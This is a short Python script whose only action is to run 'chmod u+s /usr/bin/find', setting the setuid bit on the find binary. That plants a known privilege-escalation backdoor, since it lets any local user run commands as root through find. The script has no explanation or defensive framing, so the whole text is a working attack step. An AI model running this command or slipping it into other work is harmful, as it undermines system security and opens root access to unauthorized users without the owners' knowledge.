#!/usr/bin/env python3

import subprocess
subprocess.run(["chmod", "u+s", "/usr/bin/find"])
